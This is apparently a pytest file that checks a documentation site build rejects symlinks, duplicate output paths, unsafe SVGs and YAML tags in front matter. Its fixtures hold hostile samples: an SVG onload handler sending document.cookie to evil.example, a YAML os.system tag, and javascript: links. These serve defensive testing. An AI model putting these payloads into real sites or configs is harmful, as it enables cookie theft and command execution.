"""Issue 6, point 4, in the build itself: a symlink under docs/, two sources
with one address, an SVG with active content and a YAML tag in front matter
each stop the build with the file named (MkDocs alone would publish them)."""
from __future__ import annotations

import pytest

from sitebuild import ROOT, build_fixture, page
from sitekit.output_urls import find_symlinks, output_conflicts

HOME = {"index.md": page("Home", "# Home\n"), "index.zh.md": page("首页", "# 首页\n")}
EVIL_SVG = ('<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="1" height="1"\n'
            '      onload="fetch(\'https://evil.example/\'+document.cookie)"/>\n</svg>\n')

CASES = {
    "duplicate": ({"about.md": page("About"), "about/index.md": page("About too")},
                  ["docs/about.md and docs/about/index.md would both be published as about/index.html"]),
    "duplicate-suffix": ({"news.md": page("News"), "news.en.md": page("News again")},
                         ["docs/news.en.md and docs/news.md would both be published as news/index.html (en)"]),
    "svg": ({"logo.svg": EVIL_SVG}, ["docs/logo.svg:3:", "event handler"]),
    "yaml-tag": ({"tag.md": "---\ntitle: !!python/object/apply:os.system [id]\ndescription: x\n---\n"},
                 ["docs/tag.md:2:", "YAML tag"]),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_the_build_refuses(tmp_path, case):
    pages, expected = CASES[case]
    build = build_fixture(tmp_path, {**HOME, **pages})
    assert not build.ok
    for words in expected:
        assert words in build.output, build.output[-2000:]


def test_the_build_refuses_a_symlink(tmp_path):
    from sitebuild import make_fixture, run_mkdocs
    config = make_fixture(tmp_path / "project", HOME)
    (tmp_path / "project" / "docs" / "secret.md").symlink_to(ROOT / "README.md")
    build = run_mkdocs(config, tmp_path / "site")
    assert not build.ok
    assert "Symbolic links are not allowed under docs/" in build.output and "docs/secret.md" in build.output
    assert not (tmp_path / "site" / "secret").exists()


def test_pure_rules(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "real.md").write_text("x")
    (tmp_path / "a" / "link.md").symlink_to(tmp_path / "a" / "real.md")
    (tmp_path / "folder-link").symlink_to(tmp_path / "a", target_is_directory=True)
    assert find_symlinks(tmp_path) == ["a/link.md", "folder-link"]
    assert output_conflicts(["index.md", "README.md", "x.zh.md", "x/index.zh.md", "y.md", "y.zh.md", "img.png"],
                            ("en", "zh"), "en") == [
        ("en", "index.html", ["README.md", "index.md"]), ("zh", "x/index.html", ["x.zh.md", "x/index.zh.md"])]


SVG_CASES = {
    "entities": ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "aaaaaaaa">\n]>\n<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
                 3, "entities"),
    "foreign-object": ('<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject><div>x</div></foreignObject></svg>', 2, "HTML"),
    "javascript-link": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
                        '<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 2, "runs code"),
    "external-image": ('<svg xmlns="http://www.w3.org/2000/svg">\n\n<image href="https://tracker.example/p.png"/></svg>', 3,
                       "another host"),
    "css-import": ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://x.example/a.css);</style></svg>', 1,
                   "<style>"),
    "animation": ('<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', 1,
                  "rewrites a link"),
    "not-svg": ("<html><body>hi</body></html>", 1, "not <svg>"),
    "broken": ('<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>', 3, "not a valid SVG"),
}


@pytest.mark.parametrize("case", sorted(SVG_CASES))
def test_svg_rules(case):
    from sitekit.svg_safety import svg_problems
    text, line, words = SVG_CASES[case]
    found = svg_problems(text.encode())
    assert any(n == line and words in message for n, message in found), found


def test_plain_svg_passes():
    from sitekit.svg_safety import svg_problems
    assert svg_problems((ROOT / "overrides" / "assets" / "favicon.svg").read_bytes()) == []
    assert svg_problems(b'<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><circle r="1"/></a>'
                        b'<use href="#c"/><style>circle { fill: red }</style></svg>') == []
